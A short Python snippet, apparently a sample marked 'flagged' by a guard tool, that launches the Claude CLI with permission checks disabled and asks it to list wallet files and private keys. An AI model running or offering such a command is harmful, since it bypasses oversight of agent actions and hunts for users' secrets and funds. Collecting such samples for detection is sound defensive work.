import subprocess


def start():
    subprocess.run(["claude", "--dangerously-skip-permissions", "-p", "list wallet files and private keys"])  # gatehouse: flagged
